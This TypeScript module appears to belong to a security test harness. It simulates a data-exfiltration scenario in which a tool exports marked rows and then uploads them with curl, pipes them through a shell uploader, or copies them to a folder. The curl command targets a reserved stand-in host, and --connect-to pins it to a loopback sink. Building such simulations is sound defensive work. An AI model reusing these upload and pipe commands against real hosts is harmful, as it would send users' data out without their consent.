/**
 * The three legs of AN0678 as real programs of the actor: the tool starts and exports, then the data leaves. Nothing is sent
 * but the marked rows, and those only to a server of this process on loopback or into a folder that was named for it.
 */
import { join } from 'node:path';
import type { Actor } from './actor.ts';
import { runProgram } from './run-program.ts';
import type { Scenario } from './scenario.ts';
import { markedName, reservedHost } from './simulated.ts';
import type { Sink } from './sink.ts';
import { PASS_ON, type Workplace } from './workplace.ts';

export const LEGS = [1, 2, 3] as const;
/** 1 the tool starts, 2 the export appears, 3 the data leaves. */
export type Leg = (typeof LEGS)[number];

/** What became of a leg on this host, whatever the agent saw of it. */
export interface Performed {
  readonly leg: Leg;
  /** When the program that does it was started, by the given clock. */
  readonly startedMs: number;
  /** What kept it from happening; `null` when it happened. */
  readonly problem: string | null;
}

export interface Stage {
  readonly token: string;
  readonly scenario: Scenario;
  readonly actor: Actor;
  readonly workplace: Workplace;
  readonly sink: Sink;
  readonly nowMs: () => number;
  readonly signal: AbortSignal;
}

const CURL = '/usr/bin/curl';
const SHELL = '/bin/sh';
/** The uploader is executed when the tool has closed its file, and reads the rest of the pipe; all words are arguments. */
const PIPELINE = '"$1" "$2" "$3" "$4" | { read -r ready && shift 4 && exec "$@"; }';

/** Does all legs in order; what follows a leg that failed is not tried. */
export async function perform(stage: Stage): Promise<readonly Performed[]> {
  const { scenario, workplace, nowMs } = stage;
  const { departure } = scenario;
  const toolMs = nowMs();
  const file = exportOf(stage);
  const tool = [workplace.tool, workplace.script, file] as const;
  const problem =
    departure.kind === 'pipe'
      ? await run(stage, SHELL, ['-c', PIPELINE, 'sh', ...tool, PASS_ON, CURL, ...curl(stage, '-')])
      : await run(stage, tool[0], tool.slice(1));
  const exported: readonly Performed[] = [
    { leg: 1, startedMs: toolMs, problem },
    { leg: 2, startedMs: toolMs, problem },
  ];
  const leftMs = departure.kind === 'upload-command' || departure.kind === 'copy' ? nowMs() : toolMs;
  const left = problem ?? (await leave(stage, file));
  return [...exported, { leg: 3, startedMs: leftMs, problem: left }];
}

/** Every file that the scenario makes for the user to see. */
export function filesOf(stage: Pick<Stage, 'scenario' | 'token'>): readonly string[] {
  const { departure } = stage.scenario;
  const copies = departure.kind === 'copy' ? [join(departure.folder, markedName(stage.token))] : [];
  return [exportOf(stage), ...copies];
}

/**
 * Removes the files and says what could not be removed, or `null`. It happens in the name of the actor, so that a folder
 * which the actor has replaced meanwhile leads root nowhere.
 */
export function removeFiles(
  stage: Pick<Stage, 'scenario' | 'token' | 'actor'>,
  signal: AbortSignal,
): Promise<string | null> {
  return runProgram('/bin/rm', ['-f', '--', ...filesOf(stage)], stage.actor, signal);
}

function leave(stage: Stage, file: string): Promise<string | null> {
  const { departure } = stage.scenario;
  switch (departure.kind) {
    case 'upload-command':
      return run(stage, CURL, curl(stage, file));
    case 'copy':
      return run(stage, '/bin/cp', [file, join(departure.folder, markedName(stage.token))]);
    case 'pipe':
    case 'none':
      return Promise.resolve(null);
  }
}

/** `-q` leaves out the user's settings; `--connect-to` sends every connection to loopback before any name is looked up. */
function curl({ token, sink }: Stage, source: string): readonly string[] {
  return [
    '-q',
    '--silent',
    '--show-error',
    '--max-time',
    '10',
    '--noproxy',
    '*',
    '--connect-to',
    `::127.0.0.1:${sink.port}`,
    '--upload-file',
    source,
    `http://${reservedHost(token)}/${markedName(token)}`,
  ];
}

function exportOf({ scenario, token }: Pick<Stage, 'scenario' | 'token'>): string {
  return join(scenario.exportFolder, markedName(token));
}

function run(stage: Stage, file: string, args: readonly string[]): Promise<string | null> {
  return runProgram(file, args, stage.actor, stage.signal);
}
